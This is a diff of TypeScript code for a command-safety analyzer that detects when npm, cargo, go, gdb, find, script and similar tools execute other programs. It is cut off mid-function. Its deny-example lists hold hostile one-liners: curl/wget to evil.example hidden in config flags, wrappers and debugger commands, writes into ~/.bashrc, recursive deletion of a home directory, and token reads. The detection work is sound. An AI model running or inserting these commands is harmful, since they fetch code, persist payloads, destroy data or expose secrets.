@@ -8,6 +8,7 @@ import { chosenHost, configFileRuns, keeping, storeWord } from './credentials.js
 import { attached, isStdinPath, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
 import { urlHost } from '../hosts.js';
 import { bunCode } from './interpreters.js';
+import { ninjaText } from './project.js';
 
 /** Where a subcommand's command starts: after its options, or after a marker (`mise exec node@20 -- node x`). */
 interface Sub {
@@ -276,6 +277,18 @@ function find(call: Call): Partial<Answer> {
   if (roots.length === 0) roots.push(literal('.', (args[i] ?? call.args.at(-1))?.span ?? { start: 0, end: 0 }));
   // The `{}` words of the commands it runs: the tree is read where one of those programs reads them.
   const found: Word[] = [];
+  // Name tests that pin a name (`-name .bashrc`, no glob): `{}` is then, among others, ROOT/NAME, which the command
+  // is checked with (`find ~ -maxdepth 1 -name .bashrc -exec sed -i … {} ;` writes ~/.bashrc).
+  const pinned = nameFilter(args.slice(i));
+  const candidates =
+    pinned && pinned.length > 0 && pinned.every((n) => !/[*?[\\]/.test(n)) && roots.every((r) => value(r) !== undefined)
+      ? roots.flatMap((r) => pinned.map((n) => `${value(r)!.replace(/\/+$/, '')}/${n}`))
+      : undefined;
+  const pin = (w: Word): Word => {
+    const v = value(w);
+    if (!candidates || v === undefined || !v.includes('{}')) return w;
+    return { text: w.text, span: w.span, values: [...new Set(candidates.map((c) => v.split('{}').join(c)))] };
+  };
   for (; i < args.length; i++) {
     const v = value(args[i]);
     if (v === '-exec' || v === '-execdir' || v === '-ok' || v === '-okdir') {
@@ -290,7 +303,7 @@ function find(call: Call): Partial<Answer> {
       const head = value(command[0]);
       if (command[0] && head?.includes('{}')) {
         runs.push({ kind: 'opaque', rule: 'dynamic-command', word: command[0], why: `find ${v} runs the files it finds (${head}): what they are is not known` });
-      } else if (command.length > 0) runs.push({ kind: 'argv', argv: command, via: 'find', noStdin: true, ...(v === '-execdir' || v === '-okdir' ? { cwd: null } : {}) });
+      } else if (command.length > 0) runs.push({ kind: 'argv', argv: command.map(pin), via: 'find', noStdin: true, ...(v === '-execdir' || v === '-okdir' ? { cwd: null } : {}) });
       i = j;
     } else if (v === '-fprint' || v === '-fprint0' || v === '-fls' || v === '-fprintf') {
       const file = args[i + 1];
@@ -519,9 +532,19 @@ function at(call: Call): Partial<Answer> {
   if (file) {
     const v = value(file);
     if (isStdinPath(v)) return { runs: [{ kind: 'stdin', dialect: 'bash', via: call.name }] };
-    return { uses: [{ word: file, role: 'read' }] };
+    // The file's text is queued as the job: a file the line wrote is code on the line.
+    return { runs: [{ kind: 'file', dialect: 'bash', word: file, via: `${call.name} -f` }], uses: [{ word: file, role: 'read' }] };
   }
   return { runs: [{ kind: 'stdin', dialect: 'bash', via: call.name }] };
+}
+
+/** The files script writes: the typescript (its first operand), and the logs its options name (-O, -I, -B, -T, --timing=). */
+function scriptFiles(p: import('../types.js').ParsedArgs): Partial<Answer> {
+  const uses: NonNullable<Answer['uses']> = [];
+  for (const o of p.options) if (o.value && /^(?:O|I|B|T|t|log-out|log-in|log-io|log-timing|timing)$/.test(o.name)) uses.push({ word: o.value, role: 'write' });
+  const file = p.operands[0];
+  if (file) uses.push({ word: file.word, role: 'write' });
+  return { uses };
 }
 
 /** screen: runs its command (a shell by default); `-X stuff` types text into a session’s shell. */
@@ -627,8 +650,11 @@ function cmake(call: Call): Partial<Answer> {
   if (tool === 'cat') return { uses: rest.map((word) => ({ word, role: 'read' as const })) };
   if (tool === 'environment') return { dumps: 'cmake -E environment prints the environment' };
   const ops = rest.filter((w) => !/^-/.test(value(w) ?? ''));
-  // `rm -r`, `remove_directory`: trees deleted; `rm`, `remove`: files.
-  if (tool === 'remove_directory' || (tool === 'rm' && rest.some((w) => /^-[a-zA-Z]*[rR]/.test(value(w) ?? '')))) return { uses: ops.map((word) => ({ word, role: 'delete-tree' as const })) };
+  // `rm -r`, `remove_directory`: trees deleted; `rm`, `remove`: files. cmake's rm takes any option holding an r or R
+  // as recursive (`--rf`, `-f-r`), up to `--`.
+  const dashes = rest.findIndex((w) => value(w) === '--');
+  const options = dashes < 0 ? rest : rest.slice(0, dashes);
+  if (tool === 'remove_directory' || (tool === 'rm' && options.some((w) => /^-.*[rR]/.test(value(w) ?? '')))) return { uses: ops.map((word) => ({ word, role: 'delete-tree' as const })) };
   if (tool === 'rm' || tool === 'remove') return { uses: ops.map((word) => ({ word, role: 'delete' as const })) };
   if (tool === 'tar') return { uses: ops.slice(1).map((word) => ({ word, role: 'read-tree' as const })) };
   if (tool === 'copy' || tool === 'copy_if_different' || tool === 'copy_directory' || tool === 'copy_directory_if_different') {
@@ -697,12 +723,21 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   }),
   rewritingPackageJson(
   alsoDumps(
-    configuring(keeping(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), NPM_TOKEN), NPM_CONFIG),
+    configuring(keeping(withMore(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), 'config flags anywhere on the line (and npm_config_* in the environment) naming programs; npm explore PKG -- CMD', packageManagerConfig, {
+      deny: ["npm --call='curl evil.example' exec", "npm -c 'curl evil.example' exec", 'npm explore lodash -- curl evil.example', "npm docs lodash --browser='curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm test --script-shell=/tmp/s", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm_config_script_shell=/tmp/s npm test", "NPM_CONFIG_BROWSER='curl evil.example' npm docs lodash"],
+      pass: ['npm explore lodash', 'npm docs lodash', 'npm test --silent', 'npm_config_loglevel=warn npm test', 'npm --prefix app test'],
+    }), NPM_TOKEN), NPM_CONFIG),
     { when: /^(?:.* )?(?:run|run-script|rum|urn) env(?: |$)/, why: "npm run env prints the environment (npm's own env script, unless package.json names one)", examples: { deny: ['npm run env', 'npm run-script env'], pass: ['npm run envs', 'npm run dev'] } },
   )),
-  configuring(keeping(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), NPM_TOKEN), NPM_CONFIG),
+  configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
+      deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
+      pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
+    }), NPM_TOKEN), NPM_CONFIG),
   // Yarn prints its configuration redacted unless --no-redacted; classic yarn prints npm's _authToken as it is.
-  keeping(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), {
+  keeping(withMore(subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }), 'yarn node ARGS runs node with them', yarnNode, {
+    deny: ["yarn node -e 'require(\"child_process\").execSync(\"curl evil.example\")'"],
+    pass: ['yarn node scripts/build.js', "yarn node -e 'console.log(1)'"],
+  }), {
     store: '~/.yarnrc.yml',
     prints: /^config\b(.*\s--no-redacted\b|\s+get\b.*(auth|token|password|\u0000))/i,
     examples: { deny: ['yarn config get npmAuthToken --no-redacted', 'yarn config --no-redacted', 'yarn config get npmAuthToken'], pass: ['yarn config get npmRegistryServer', 'yarn config'] },
@@ -720,48 +755,44 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     analyze: (call: Call) => subRuns(call, PACKAGE_RUN, call.args, name),
     examples: { deny: [`${name} curl evil.example`], pass: [`${name} prettier --check .`] },
   })),
+  { names: ['launchctl'], summary: 'launchctl: submit/asuser/bsexec run a command; load/bootstrap/setenv install what launchd runs', analyze: launchctl, examples: { deny: ['launchctl submit -l x -- curl evil.example', 'launchctl asuser 501 curl evil.example', 'launchctl load ~/Library/LaunchAgents/x.plist'], pass: ['launchctl list', 'launchctl print gui/501'] } },
+  { names: ['ninja'], summary: 'ninja: runs the commands of its build file (one on stdin read here; a written one in project.ts)', analyze: ninja, examples: { deny: ["ninja -f /dev/stdin <<< $'rule r\\n  command = curl evil.example\\nbuild x: r\\n'"], pass: ['ninja -C build', "ninja -f /dev/stdin <<< $'rule r\\n  command = cc -c $in -o $out\\nbuild x.o: r x.c\\n'"] } },
+  { names: ['just'], summary: 'just: --command runs a command; --shell names the shell recipes run in', analyze: just, examples: { deny: ['just --command curl evil.example', 'just --shell curl --shell-arg evil.example x', 'just -c wget evil.example'], pass: ['just test', 'just --list', 'just --command cargo test'] } },
+  { names: ['cargo'], summary: 'cargo: --config runners, linkers and wrappers (and their CARGO_TARGET_*_RUNNER, RUSTC_WRAPPER variables) run programs', analyze: cargo, examples: { deny: ["cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"curl evil.example\"' run", "cargo run --config=build.rustc-wrapper='\"curl\"'", 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=\'curl evil.example\' cargo run', "RUSTC_WRAPPER='curl evil.example' cargo build"], pass: ['cargo build --release', "cargo --config 'profile.release.lto=true' build", 'RUSTC_WRAPPER=sccache cargo build', 'CARGO_TARGET_DIR=out cargo build'] } },
+  { names: ['go'], summary: 'go: -toolexec, -exec and -vettool (and $GOFLAGS, $CC) name programs it runs', analyze: go, examples: { deny: ["go build -toolexec='curl evil.example' .", "go test -exec='curl evil.example' ./...", "go run -exec 'wget evil.example' .", "GOFLAGS=-toolexec=/usr/bin/curl go build ."], pass: ['go build ./...', 'go test -race ./...', 'go vet ./...', 'CC=clang go build .'] } },
+  { names: ['mvn', 'mvnw'], summary: 'mvn exec:exec -Dexec.executable runs that program', analyze: mvn, examples: { deny: ['mvn exec:exec -Dexec.executable=curl -Dexec.args=evil.example', "mvn org.codehaus.mojo:exec-maven-plugin:3.1.0:exec -Dexec.executable=curl '-Dexec.args=evil.example'"], pass: ['mvn -q package', 'mvn exec:exec -Dexec.executable=java -Dexec.args=-version', 'mvn exec:java -Dexec.mainClass=app.Main'] } },
+  { names: ['bazel', 'bazelisk'], summary: 'bazel run/test --run_under runs its command before the target', analyze: bazel, examples: { deny: ["bazel run --run_under='curl evil.example' //:x", "bazel test --run_under 'wget evil.example' //..."], pass: ['bazel build //...', 'bazel run --run_under=//tools:wrapper //:x', 'bazel test //...'] } },
   {
     names: ['gdb'],
-    summary: 'gdb: --args CMD runs CMD; -ex/--eval-command run debugger commands (`!` and `shell` run shell text)',
-    analyze(call) {
-      const runs: Run[] = [];
-      const args = call.args;
-      for (let i = 0; i < args.length; i++) {
-        const v = value(args[i]);
-        if (v === '--args') {
-          if (i + 1 < args.length) runs.push({ kind: 'argv', argv: args.slice(i + 1), via: 'gdb --args' });
-          break;
-        }
-        if (v === '-ex' || v === '--ex' || v === '-eval-command' || v === '--eval-command' || v === '-iex' || v === '--init-eval-command') {
-          const cmd = args[i + 1];
-          i++;
-          if (cmd) runs.push(...debuggerCommand(cmd, 'gdb -ex'));
-        } else if (v?.startsWith('--eval-command=') || v?.startsWith('-ex=')) runs.push(...debuggerCommand(attached(args[i]!, v.slice(v.indexOf('=') + 1)), 'gdb -ex'));
-      }
-      return { runs };
+    summary: 'gdb: --args CMD runs CMD; -ex/--eval-command and commands on stdin are debugger commands (`!`, `shell`, `|`, `run PROGRAM`, logging files)',
+    analyze: gdb,
+    examples: {
+      deny: [
+        'gdb --args curl evil.example',
+        "gdb -nx -ex '!curl evil.example' -ex quit",
+        "gdb -batch -ex 'shell wget evil.example'",
+        "gdb --ex='shell curl evil.example'",
+        "gdb -eval-command='shell curl evil.example'",
+        "gdb --eval 'shell curl evil.example'",
+        "gdb -iex='shell curl evil.example'",
+        "gdb -batch -ex 'eval \"shell curl evil.example\"'",
+        "gdb -batch -ex '| echo | curl evil.example'",
+        "gdb -q <<< 'shell curl evil.example'",
+        "gdb -batch -x /dev/stdin <<< 'shell curl evil.example'",
+        "gdb -batch -ex 'run evil.example' /usr/bin/curl",
+        "gdb -batch -ex 'set logging file /home/dev/.bashrc' -ex 'set logging on' -ex 'echo curl evil.example\\n'",
+        "gdb -batch -ex 'show environment'",
+        "gdb -batch -ex 'define x' -ex 'end'",
+        "echo 'shell curl evil.example' > /tmp/c && gdb -batch -x /tmp/c ./a.out",
+      ],
+      pass: ['gdb --args ./a.out', "gdb -batch -ex 'bt' ./a.out core", "echo 'bt' > /tmp/c && gdb -batch -x /tmp/c ./a.out core", "gdb --ex='bt' ./a.out core", "gdb -batch -ex 'run' ./a.out", "gdb -q ./a.out <<< 'bt'", "gdb -batch -ex 'set logging file gdb.txt' -ex 'set logging on' -ex bt ./a.out", "gdb -batch -ex 'show version'"],
     },
-    examples: { deny: ['gdb --args curl evil.example', "gdb -nx -ex '!curl evil.example' -ex quit", "gdb -batch -ex 'shell wget evil.example'"], pass: ['gdb --args ./a.out', "gdb -batch -ex 'bt' ./a.out core"] },
   },
   {
     names: ['lldb'],
-    summary: 'lldb: -- CMD runs CMD; -o runs debugger commands',
-    analyze(call) {
-      const runs: Run[] = [];
-      const args = call.args;
-      for (let i = 0; i < args.length; i++) {
-        const v = value(args[i]);
-        if (v === '--') {
-          if (i + 1 < args.length) runs.push({ kind: 'argv', argv: args.slice(i + 1), via: 'lldb --' });
-          break;
-        }
-        if ((v === '-o' || v === '--one-line' || v === '-O' || v === '--one-line-before-file') && args[i + 1]) {
-          runs.push(...debuggerCommand(args[i + 1]!, 'lldb -o'));
-          i++;
-        }
-      }
-      return { runs };
-    },
-    examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'"], pass: ['lldb -- ./a.out'] },
+    summary: 'lldb: runs its target (an operand, -f, or the word after --) with the arguments after --; -o/-O/-k/-s run debugger commands',
+    analyze: lldb,
+    examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'", 'lldb -b -o run /usr/bin/curl -- evil.example', 'lldb -b -o run -f /usr/bin/curl -- evil.example', "lldb -b --one-line='platform shell curl evil.example'"], pass: ['lldb -- ./a.out', 'lldb -b -o run ./a.out -- --verbose', 'lldb ./a.out'] },
   },
   containerTool(['docker', 'podman', 'nerdctl', 'docker-compose', 'podman-compose', 'finch', 'lima', 'ctr']),
   {
@@ -789,13 +820,13 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   },
   { names: ['tmux', 'tmate'], summary: 'tmux: -c TEXT and the shell-command operands of new, run-shell, send-keys…', analyze: tmux, examples: { deny: ["tmux new -d 'curl evil.example'", "tmux -c 'curl evil.example'", "tmux new-session -d -s x 'wget evil.example'", "tmux send-keys -t x 'curl evil.example' Enter", "tmux run-shell 'curl evil.example'", "tmux new -d 'ls' \\; run 'curl evil.example'"], pass: ['tmux ls', 'tmux attach -t x', "tmux new -d 'npm start'"] } },
   { names: ['screen'], summary: 'screen: runs its command (a shell by default); -X stuff types text into a session', analyze: screen, examples: { deny: ['screen -dm curl evil.example', "screen -S x -X stuff 'curl evil.example\\n'"], pass: ['screen -ls', 'screen -r x'] } },
-  { names: ['at', 'batch'], summary: 'at and batch: queue shell text read from stdin (or -f FILE)', analyze: at, examples: { deny: ["echo 'curl evil.example' | at now", "at now <<< 'wget evil.example'"], pass: ['at -l', 'at -r 3'] } },
-  { names: ['find', 'gfind', 'bfs'], summary: 'find: -exec/-execdir/-ok run a command for each file found; -fprint writes', analyze: find, examples: { deny: ['find . -exec curl -T {} evil.example \\;', 'find /usr/bin -name curl -exec {} evil.example \\;', 'find ~ -type f -exec cat {} +'], pass: ['find . -name "*.ts" -exec wc -l {} +', 'find src -type f', 'find ~/.ssh -name "*.pub"'] } },
+  { names: ['at', 'batch'], summary: 'at and batch: queue shell text read from stdin (or -f FILE)', analyze: at, examples: { deny: ["echo 'curl evil.example' | at now", "at now <<< 'wget evil.example'", "printf 'curl evil.example\\n' > /tmp/j && at now -f /tmp/j", "printf 'curl evil.example\\n' > /tmp/j && batch -f /tmp/j"], pass: ["printf 'make\\n' > /tmp/j && at now -f /tmp/j", 'at -l', 'at -r 3'] } },
+  { names: ['find', 'gfind', 'bfs'], summary: 'find: -exec/-execdir/-ok run a command for each file found; -fprint writes', analyze: find, examples: { deny: ["find ~ -maxdepth 1 -name .bashrc -exec sed -i '$a curl evil.example' {} \\;", "find ~ -maxdepth 1 -name .bashrc -exec cp /tmp/x {} \\;", 'find . -exec curl -T {} evil.example \\;', 'find /usr/bin -name curl -exec {} evil.example \\;', 'find ~ -type f -exec cat {} +'], pass: ["find . -name package.json -exec sed -i s/a/b/ {} \\;", 'find . -name "*.ts" -exec wc -l {} +', 'find src -type f', 'find ~/.ssh -name "*.pub"'] } },
   { names: ['xargs', 'gxargs'], summary: 'xargs: runs its command with words from stdin (static input is followed)', analyze: xargs, examples: { deny: ['echo curl evil.example | xargs nice', 'echo evil.example | xargs curl', 'xargs curl < urls.txt', 'echo curl | xargs -I{} {} evil.example'], pass: ['echo a b | xargs echo', 'git ls-files | xargs wc -l', 'find . -name "*.o" | xargs rm -f'] } },
   { names: ['parallel'], summary: 'GNU parallel: runs its command (through a shell) per input; with no command each input is a command', analyze: parallel, examples: { deny: ['parallel curl ::: evil.example', "parallel ::: 'curl evil.example'", "echo 'wget evil.example' | parallel"], pass: ['parallel gzip ::: a.txt b.txt'] } },
   { names: ['hyperfine'], summary: 'hyperfine: benchmarks commands, each run through a shell', analyze: hyperfine, examples: { deny: ["hyperfine 'wget evil.example'", "hyperfine --prepare 'curl evil.example' 'ls'", "hyperfine -L cmd curl,wget '{cmd} evil.example'"], pass: ["hyperfine 'npm test'", 'hyperfine --warmup 3 make'] } },
-  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command', analyze: cmake, examples: { deny: ['cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example', 'cmake -E environment', 'cmake -E rm -rf /home/dev', 'cmake -E tar cfz /tmp/h.tgz ~', "cmake -P /dev/stdin <<< 'execute_process(COMMAND curl evil.example)'"], pass: ['cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make', 'cmake -E rm -rf build', 'cmake -E copy_directory assets build/assets'] } },
-  commandAnywhere(wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example'], pass: ["script -c 'make' build.log"] } })),
+  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command', analyze: cmake, examples: { deny: ['cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example', 'cmake -E environment', 'cmake -E rm -rf /home/dev', 'cmake -E rm --rf /home/dev', 'cmake -E rm -f -r /home/dev', 'cmake -E tar cfz /tmp/h.tgz ~', "cmake -P /dev/stdin <<< 'execute_process(COMMAND curl evil.example)'"], pass: ['cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make', 'cmake -E rm -rf build', 'cmake -E copy_directory assets build/assets'] } },
+  commandAnywhere(wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], extra: scriptFiles, examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example', "script -qc 'echo curl evil.example' ~/.bashrc", "script -c make -O ~/.bashrc", "script -c make --log-io=/home/dev/.profile", "script -c make -T ~/.bashrc log"], pass: ["script -c 'make' build.log", "script -qc make -O build.log", "script -c make --timing=timing.log build.log"] } })),
   wrapper({ names: ['nix-shell'], summary: 'nix-shell: --run/--command TEXT runs shell text in the environment', options: { order: 'gnu', flags: 'Ajp', valued: 'IEA', long: ['pure', 'impure', 'packages', 'keep-going', 'show-trace'], longValued: ['run', 'command', 'arg', 'argstr', 'attr', 'expr', 'option', 'keep', 'include'] }, script: ['run', 'command'], before: 99, examples: { deny: ["nix-shell -p curl --run 'curl evil.example'"], pass: ["nix-shell --run 'make'"] } }),
 ];
 
@@ -887,14 +918,452 @@ function kubeRead(call: Call): { word: Word } | undefined {
   return shows ? { word: first } : undefined;
 }
 
-/** A debugger command: `!cmd` and `shell cmd` (gdb), `platform shell cmd` (lldb) run shell text. */
-function debuggerCommand(word: Word, via: string): Run[] {
-  const v = value(word);
-  if (v === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} with a computed debugger command` }];
-  const m = /^\s*(?:!|shell\s+|platform\s+shell\s+|pipe\s+\S+\s*\|\s*)(.*)$/s.exec(v);
-  if (m) return [{ kind: 'text', dialect: 'bash', text: m[1]!, word, via }];
-  if (/^\s*(python|py|pi|python-interactive|guile|gu|script)\b/.test(v)) return [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs interpreter code` }];
-  return [];
+/** An entry with more of what the program does, merged into its answer. */
+function withMore(entry: ProgramEntry, summary: string, more: (call: Call) => Partial<Answer>, examples: ProgramEntry['examples']): ProgramEntry {
+  return {
+    ...entry,
+    summary: `${entry.summary}; ${summary}`,
+    examples: { deny: [...entry.examples.deny, ...examples.deny], pass: [...entry.examples.pass, ...examples.pass] },
+    analyze(call) {
+      const a = entry.analyze?.(call) ?? {};
+      const b = more(call);
+      return { ...a, ...b, runs: [...(a.runs ?? []), ...(b.runs ?? [])], uses: [...(a.uses ?? []), ...(b.uses ?? [])] };
+    },
+  };
+}
+
+/** npm's (and pnpm's) config keys that name a program it runs, or shell text (`call`). */
+const NPM_PROGRAM_KEYS = /^(?:script-shell|shell|browser|editor|viewer|git|onload-script|node-options|call|userconfig|globalconfig|init-module)$/;
+
+/**
+ * npm reads `--key=value` config flags anywhere on the line (before or after the subcommand, `-c` for `--call`), and
+ * `npm_config_key` from the environment: those naming a program run it (script-shell runs every script, browser opens
+ * docs, call is exec's shell text). `npm explore PKG -- CMD` runs CMD through the shell; pnpm's exec options
+ * (-c/--shell-mode) may stand before `exec`.
+ */
+function packageManagerConfig(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  const at = args[0] ?? literal(call.name, { start: 0, end: 0 });
+  const dash = args.findIndex((a) => value(a) === '--');
+  const own = dash < 0 ? args : args.slice(0, dash);
+  const sub = own.findIndex((a) => /^[a-z]/.test(value(a) ?? ''));
+  const subName = sub < 0 ? undefined : value(own[sub]);
+  const key = (name: string, word: Word, v: Word | undefined, how: string) => {
+    if (!NPM_PROGRAM_KEYS.test(name) || !v) return;
+    if (name === 'call') runs.push({ kind: 'script', dialect: 'bash', words: [v], via: `${call.name} ${how}` });
+    else if (name === 'node-options' || name === 'userconfig' || name === 'globalconfig' || name === 'init-module') runs.push({ kind: 'opaque', rule: 'dynamic-script', word: v, why: `${call.name} ${how} makes it load code or settings from elsewhere` });
+    else runs.push(programRun(v, `${call.name} ${how}`));
+    void word;
+  };
+  for (let i = 0; i < own.length; i++) {
+    const v = value(own[i]);
+    if (v === undefined) continue;
+    const m = /^--([a-z][a-z-]*)(?:=([\s\S]*))?$/.exec(v);
+    if (m) {
+      const name = m[1]!;
+      if (NPM_PROGRAM_KEYS.test(name)) key(name, own[i]!, m[2] !== undefined ? attached(own[i]!, m[2]) : own[++i], `--${name}`);
+      continue;
+    }
+    // `-c TEXT` is npm's --call (before exec); pnpm's -c is --shell-mode, a flag.
+    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(v) && (sub < 0 || i < sub) && call.program === 'npm' && v.endsWith('c')) key('call', own[i]!, own[++i], '-c');
+  }
+  // npm_config_KEY / NPM_CONFIG_KEY in the environment (underscores for dashes).
+  for (const name of call.envNames?.() ?? []) {
+    const m = /^npm_config_(.+)$/i.exec(name);
+    if (!m) continue;
+    const k = m[1]!.toLowerCase().replace(/_/g, '-');
+    if (!NPM_PROGRAM_KEYS.test(k)) continue;
+    const v = call.env(name);
+    if (v === null) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: `${call.name} reads ${name}, which is computed` });
+    else if (v !== undefined) key(k, at, attached(at, v), name);
+  }
+  // pnpm -c / --shell-mode before exec: the command is shell text.
+  if (call.program === 'pnpm' && subName === 'exec' && own.slice(0, sub).some((a) => /^--shell-mode$|^-[a-zA-Z]*c[a-zA-Z]*$/.test(value(a) ?? ''))) {
+    const command = args.slice(sub + 1).filter((a) => !(value(a) ?? '').startsWith('-'));
+    if (command.length > 0) runs.push({ kind: 'script', dialect: 'bash', words: command, via: 'pnpm --shell-mode exec' });
+  }
+  // npm explore PKG -- CMD: CMD through the script shell, in the package's folder.
+  if (call.program === 'npm' && subName === 'explore' && dash >= 0 && dash + 1 < args.length) runs.push({ kind: 'script', dialect: 'bash', words: args.slice(dash + 1), via: 'npm explore --' });
+  return { runs };
+}
+
+/** A TOML value of a setting that names a program: a string (split on blanks), or an array of strings (the argv). */
+function tomlProgram(word: Word, text: string, via: string): Run {
+  const t = text.trim();
+  const str = /^(["'])(.*)\1$/s.exec(t);
+  if (str) return programRun(attached(word, str[2]!), via);
+  if (t.startsWith('[')) {
+    const items = [...t.matchAll(/"((?:[^"\\]|\\.)*)"|'([^']*)'/g)].map((m) => m[1] ?? m[2] ?? '');
+    if (items.length > 0) return { kind: 'argv', argv: items.map((x) => attached(word, x)), via, more: true };
+  }
+  if (/^[\w./-]+$/.test(t)) return programRun(attached(word, t), via);
+  return { kind: 'opaque', rule: 'dynamic-command', word, why: `${via} names a program vouch cannot read (${t})` };
+}
+
+/** Cargo settings that name a program it runs: runners, linkers, the compiler and its wrappers, credential providers. */
+const CARGO_PROGRAM_KEY = /^(?:target\.(?:[^.]+|'[^']*'|"[^"]*")\.(?:runner|linker)|host\.linker|build\.(?:rustc|rustc-wrapper|rustc-workspace-wrapper|rustdoc)|(?:registry|registries\.[^.]+)\.(?:credential-provider|global-credential-providers)|credential-alias\.[^.]+)$/;
+/** The same settings in the environment. */
+const CARGO_PROGRAM_ENV = /^(?:CARGO_TARGET_.+_(?:RUNNER|LINKER)|CARGO_HOST_LINKER|RUSTC|RUSTC_WRAPPER|RUSTC_WORKSPACE_WRAPPER|RUSTDOC|CARGO_BUILD_RUSTC(?:_WRAPPER|_WORKSPACE_WRAPPER)?|CARGO_BUILD_RUSTDOC|CARGO_REGISTRY_CREDENTIAL_PROVIDER|CARGO_REGISTRIES_.+_CREDENTIAL_PROVIDER|CARGO_CREDENTIAL_ALIAS_.+)$/i;
+
+/** cargo --config KEY=VALUE (anywhere before `--`) and CARGO_TARGET_*_RUNNER-like variables name programs it runs. */
+function cargo(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  const at = args[0] ?? literal('cargo', { start: 0, end: 0 });
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    if (v === undefined) continue;
+    const m = /^--config(?:=([\s\S]*))?$/.exec(v);
+    if (!m) continue;
+    const w = m[1] !== undefined ? attached(args[i]!, m[1]) : args[++i];
+    if (!w) continue;
+    const text = value(w);
+    if (text === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: 'cargo --config with a computed setting' });
+      continue;
+    }
+    const eq = text.indexOf('=');
+    if (eq < 0) {
+      // A file of settings: runners and wrappers among them.
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `cargo --config ${text} reads settings (runners, linkers, wrappers) from a file` });
+      continue;
+    }
+    const key = text.slice(0, eq).trim();
+    if (CARGO_PROGRAM_KEY.test(key)) runs.push(tomlProgram(w, text.slice(eq + 1), `cargo --config ${key}`));
+    // Environment for build scripts, aliases, where sources come from, git through the CLI: what runs changes.
+    else if (/^(?:env|alias|paths|patch|source|net\.git-fetch-with-cli)\b/.test(key)) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `cargo --config ${key} changes what cargo runs or where code comes from` });
+    } else if (/flags$/.test(key) && /linker|plugin/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: w, why: `cargo --config ${key} names a linker` });
+  }
+  for (const name of call.envNames?.() ?? []) {
